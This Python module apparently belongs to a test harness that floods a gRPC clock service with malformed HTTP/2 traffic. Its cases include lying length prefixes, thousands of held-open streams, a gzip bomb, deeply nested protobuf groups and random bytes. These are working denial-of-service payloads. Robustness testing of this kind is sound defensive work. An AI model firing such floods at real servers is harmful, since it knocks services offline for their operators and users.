"""Attacks by what is inside of DATA: prefixes that lie, compression, messages in messages."""

import gzip

import h2
from attack import attack, flood, hold
from attacks.connections import GET_TIME
from attacks.floods import SILENCED


def flood_with(target, until, body, *metadata, count=10):
    """Calls with that in their DATA, as fast as the host takes it."""
    return flood(target, until, calls_with(body, *metadata, count=count), data=count * len(body))


def calls_with(body, *metadata, count):
    """Bursts of such calls."""
    block = h2.call_headers("/mainspring.clock.v1.Clock/GetTime", *metadata)
    parts = [body[begin:begin + h2.MAX_FRAME] for begin in range(0, len(body), h2.MAX_FRAME)]

    def burst(connection):
        return b"".join(
            h2.open_call(stream, block)
            + b"".join(h2.frame(h2.DATA, 0, stream, part) for part in parts[:-1])
            + h2.frame(h2.DATA, h2.END_STREAM, stream, parts[-1])
            for stream in connection.streams(count))
    return burst


@attack(bounds=SILENCED)
def length_beyond_limit(target, until):
    """calls whose message claims 4 GiB"""
    return flood_with(target, until, h2.message(b"x", length=0xFFFFFFFF))


@attack()
def length_never_sent(target, until):
    """200 calls on each of 10 connections whose message claims 4 MiB less a byte and does not come"""
    opened = []
    for _ in until.times(10):
        connection = h2.Connection(target.data).hello(until)
        opened.append(connection)
        for stream in connection.streams(200):
            connection.send(until, h2.open_call(stream, GET_TIME) + h2.frame(
                h2.DATA, 0, stream, h2.message(b"x", length=(4 << 20) - 1)))
    hold(until, opened)
    return {"connections": len(opened), "calls": 200 * len(opened)}


@attack(bounds=SILENCED)
def length_too_short(target, until):
    """calls with several messages where one is due, and half a prefix after them"""
    return flood_with(target, until, h2.message() * 50 + h2.message()[:3])


@attack(bounds=SILENCED)
def compressed_flag(target, until):
    """calls whose message has the flag of compression and no encoding to go with it"""
    return flood_with(target, until, h2.message(b"hello", compressed=1))


@attack(bounds=SILENCED)
def gzip_bomb(target, until):
    """calls with 4 MiB of zeros, compressed to 4 KiB"""
    bomb = h2.message(gzip.compress(bytes(4 << 20)), compressed=1)
    return flood_with(target, until, bomb, ("grpc-encoding", "gzip"))


@attack(bounds=SILENCED)
def nested_messages(target, until):
    """calls with 10,000 unknown groups in each other, and 10,000 beside each other"""
    deep = h2.message(b"\x7b" * 10_000)
    wide = h2.message(b"\x7b\x7c" * 5_000)
    bursts = (calls_with(deep, count=2), calls_with(wide, count=2))
    return flood(target, until, lambda connection: bursts[0](connection) + bursts[1](connection),
                 data=2 * len(deep) + 2 * len(wide))


@attack(bounds=SILENCED)
def random_bytes(target, until):
    """calls whose message is no message of that kind"""
    noise = bytes(number * 167 % 256 for number in range(1000))
    return flood_with(target, until, h2.message(noise))
